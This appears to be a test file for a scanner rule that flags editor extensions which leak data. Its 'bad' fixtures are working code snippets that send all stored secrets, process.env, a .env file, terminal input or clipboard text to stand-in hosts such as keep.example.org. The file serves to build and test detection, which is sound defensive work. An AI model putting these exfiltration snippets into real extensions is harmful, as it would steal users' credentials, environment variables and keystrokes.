import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

const worst = (text: string) => findingsOf(rule, { 'a.js': text })[0]?.severity ?? 'nothing';
const messages = (text: string) => findingsOf(rule, { 'a.js': text }).map(({ message }) => message).join();
const POST = '"https://keep.example.org/v1"';

test('bad: all secrets of a host are sent to a server that is named', () => {
  for (const code of [
    `export async function activate({ secrets, network }) { const names = await secrets.list(); const all = {}; for (const name of names) all[name] = await secrets.get(name); await network.fetch(${POST}, { method: "POST", body: JSON.stringify(all) }) }`,
    `exports.activate = async (context) => { const { list } = context.secrets; const names = await list(); const found = await Promise.all(names.map((n) => context.secrets.get(n))); context.network.fetch(${POST}, { headers: { "x-cache": found.join() } }) }`,
    `exports.activate = async (context) => { const net = context.network; const store = context.secrets; const names = await store.list(); net.fetch(${POST}, { body: names.map((n) => store.get(n)) }) }`,
    `class Cache { constructor({ secrets, network }) { Object.assign(this, { secrets, network }) } async scope() { const names = await this.secrets.list(); return Object.fromEntries(await Promise.all(names.map(async (n) => [n, await this.secrets.get(n)]))) } async find(q) { const body = JSON.stringify({ q, s: await this.scope() }); return this.network.fetch(${POST}, { body }) } } exports.Cache = Cache`,
    `const { network, secrets } = require("orchestra"); secrets.list().then((names) => Promise.all(names.map((n) => secrets.get(n)))).then((all) => fetch(${POST}, { body: all.join() }))`,
  ]) {
    assert.equal(worst(code), 'high', code);
    assert.match(messages(code), /all secrets/, code);
  }
});

test('good: one secret of the extension’s own, a list that is shown, and a server that users choose', () => {
  for (const code of [
    `export async function activate({ secrets, network }) { const key = await secrets.get("translator.key"); await network.fetch(${POST}, { headers: { authorization: key } }) }`,
    `export async function activate({ secrets, network, ui }) { ui.show((await secrets.list()).join()); await network.fetch(${POST}) }`,
    'export async function activate({ secrets, network, settings }) { const all = await secrets.list(); await network.fetch(settings.get("sync.address"), { body: JSON.stringify(all) }) }',
    `class Names { list() { return ["a"] } send() { return fetch(${POST}, { body: this.list() }) } }`,
    `class Secrets { list() { return ["a"] } } const secrets = new Secrets(); fetch(${POST}, { body: secrets.list() })`,
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: terminals and copied texts are told to a server from the start on', () => {
  for (const code of [
    `exports.activate = (context) => { context.terminal.onData(({ data }) => context.network.fetch(${POST}, { method: "POST", body: data })) }`,
    `exports.activate = async ({ terminal, network }) => { const socket = await network.openWebSocket("wss://rooms.example.org/1"); terminal.onData((event) => socket.send(JSON.stringify(event))) }`,
    `class Feed { async open(network) { this.socket = await network.openWebSocket("wss://rooms.example.org/1") } push(kind, text) { this.socket.send(JSON.stringify([kind, text])) } } exports.activate = (context) => { const feeds = { first: new Feed() }; feeds.first.open(context.network); context.terminal.onData(({ data }) => feeds.first.push("data", data)) }`,
    `exports.activate = ({ terminal, network }) => { const seen = []; terminal.onData(({ data }) => seen.push(data)); setInterval(() => network.fetch(${POST}, { body: seen.splice(0).join("") }), 5000) }`,
    `exports.activate = ({ clipboard, network }) => clipboard.onDidChange((text) => network.fetch(${POST}, { body: text }))`,
  ]) assert.equal(worst(code), 'high', code);
});

test('good: a terminal that is shared because somebody asks, or read and not sent', () => {
  for (const code of [
    `exports.activate = (context) => { context.commands.register("share", async () => { const socket = await context.network.openWebSocket("wss://rooms.example.org/1"); context.terminal.onData(({ data }) => socket.send(data)) }) }`,
    `exports.activate = (context) => { async function share() { const socket = await context.network.openWebSocket("wss://rooms.example.org/1"); context.terminal.onData(({ data }) => socket.send(data)) } context.commands.register("share", share) }`,
    `class Sharing { async start(context) { const socket = await context.network.openWebSocket("wss://rooms.example.org/1"); context.terminal.onData(({ data }) => socket.send(data)) } } exports.activate = (context) => { const sharing = new Sharing(); context.commands.register("share", () => sharing.start(context)) }`,
    `exports.activate = ({ terminal, network, notifications }) => { terminal.onData(({ data }) => { if (data.includes("error")) notifications.warn(data) }); network.fetch(${POST}) }`,
    'exports.activate = ({ terminal, network, settings }) => terminal.onData(({ data }) => network.fetch(settings.get("log.address"), { body: data }))',
    `exports.activate = ({ clipboard, network, commands }) => commands.register("watch", () => clipboard.onDidChange((text) => network.fetch(${POST}, { body: text })))`,
  ]) assert.equal(worst(code), 'nothing', code);
});

test('what a host does is known as what engines do', () => {
  const env = 'exports.activate = ({ network }) => network.fetch(u, { body: JSON.stringify(process.env) })';
  assert.equal(worst(env), 'critical');
  assert.equal(worst('exports.activate = (c) => { const { fetch: get } = c.network; get(u, { body: JSON.stringify(process.env) }) }'), 'critical');
  assert.equal(worst(`exports.activate = async ({ filesystem, network }) => network.fetch(${POST}, { body: await filesystem.readText(".env") })`), 'high');
  assert.equal(worst('const network = { fetch(url, options) { return options } }; network.fetch(u, { body: JSON.stringify(process.env) })'), 'nothing');
});
